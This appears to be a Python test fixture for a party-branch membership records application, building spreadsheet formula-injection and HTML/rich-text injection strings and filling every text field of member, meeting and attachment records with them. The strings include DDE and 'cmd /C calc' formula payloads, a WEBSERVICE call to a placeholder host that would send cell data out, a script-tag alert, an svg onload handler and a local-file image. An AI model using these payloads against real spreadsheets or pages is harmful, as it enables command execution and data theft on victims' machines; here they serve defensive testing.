"""Texts that a spreadsheet would run and a label would draw, and a branch full of them."""

from models.services.desk import Desk

MARK = "标记"  # stands in every one

_CALLS = (
    '=HYPERLINK("http://x.invalid","{m}")',
    "=1+1&{m}",
    "=SUM(A1:A9)*{m}",
    "=cmd|' /C calc'!A0 {m}",
    '=WEBSERVICE("http://x.invalid/"&A1) {m}',
    "=IMPORTXML({m})",
    '=DDE("cmd","/C calc","{m}")',
    "={m}",
    "=-{m}",
    "=@{m}",
)
_LEADS = ("=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", " =", "'=", '"=', "%=", "==", "=+", "+=")
_BODIES = ("{m}1+1", '{m}cmd|"/c"!A1')
FORMULAS = tuple(
    dict.fromkeys(
        [call.format(m=MARK) for call in _CALLS]
        + [lead + body.format(m=MARK) for lead in _LEADS for body in _BODIES]
        + [f"{{={MARK}{n}}}" for n in range(3)]
        + [f"{{ INCLUDETEXT {MARK}{n} }}" for n in range(3)]
        + [f"MERGEFIELD {MARK}", f"«{MARK}»", f"\\x3d{MARK}", f"=;{MARK}", f"R1C1={MARK}", f"=-+{MARK}"]
        + [f"1E5{MARK}", f"0001{MARK}", f"2026-01-01={MARK}", f"{MARK}=1", f"http://x.invalid/{MARK}"]
        + [f"#REF!{MARK}"]
    )
)

RICH = (
    "<b>{m}</b>",
    "<i>{m}</i>",
    '<img src="file:///etc/hostname">{m}',
    '<img src="http://x.invalid/a.png">{m}',
    '<a href="http://x.invalid">{m}</a>',
    "<font color=red>{m}</font>",
    "<h1>{m}</h1>",
    "<br>{m}",
    "<table><tr><td>{m}</td></tr></table>",
    "<!--{m}-->",
    "<qt>{m}</qt>",
    "<html><body>{m}</body></html>",
    "<style>*{{font-size:1px}}</style>{m}",
    "<script>alert(1)</script>{m}",
    "<p>{m}",
    "</p>{m}",
    "<span style='color:white'>{m}</span>",
    "<div>{m}</div>",
    "<ul><li>{m}</ul>",
    "<pre>{m}</pre>",
    "<s>{m}</s>",
    "<u>{m}</u>",
    "<sub>{m}</sub>",
    "<center>{m}",
    "&lt;b&gt;{m}",
    "&amp;{m}",
    "&#60;b&#62;{m}",
    "<?xml version='1.0'?>{m}",
    "<!DOCTYPE html>{m}",
    "<svg onload=x>{m}</svg>",
)
RICH_TEXTS = tuple(text.format(m=f"{MARK}{number}。") for number, text in enumerate(RICH))


def fill(desk: Desk, texts: tuple[str, ...]) -> list[int]:
    """A member with each text in every field that takes one, and a meeting, dues and steps that name it; their ids."""
    branch = desk.store.value("SELECT min(id) FROM branch")
    ids: list[int] = []
    for number, text in enumerate(texts):
        words = (
            "name",
            "address",
            "household",
            "post",
            "employer",
            "remark",
            "technical_title",
            "native_place",
        )
        person = dict.fromkeys(words, text) | {"branch_id": branch, "category": "正式党员", "sex": "男"}
        person |= {
            "joined_on": "2010-05-01",
            "id_number": f"1101011990{number:08}",
            "sort_key": f"{number:04}",
        }
        with desk.store.transaction(f"登记{text}") as tx:
            ids.append(tx.insert("person", person))
            meeting = tx.insert(
                "meeting",
                dict.fromkeys(("title", "place", "host", "recorder", "content", "summary", "observers"), text)
                | {
                    "branch_id": branch,
                    "kind": "支部党员大会",
                    "held_on": "2026-09-01",
                    "starts_at": "09:00",
                },
            )
            item = dict.fromkeys(("title", "content", "decision"), text)
            tx.insert("agenda_item", item | {"meeting_id": meeting, "kind": "一般事项"})
            tx.insert(
                "step", {"person_id": ids[-1], "code": "apply", "on_date": "2009-01-01", "remark": text}
            )
            paper = {"branch_id": branch, "person_id": ids[-1], "kind": "附件", "extension": "pdf", "size": 9}
            tx.insert("attachment", {**paper, "name": text, "remark": text, "sha256": f"{number:064x}"})
            tx.insert("companion", {"person_id": ids[-1], "role": "contact", "name": text})
            tx.insert(
                "mark",
                {"person_id": ids[-1], "field": "address", "code": "x", "before": text, "message": text},
            )
    return ids
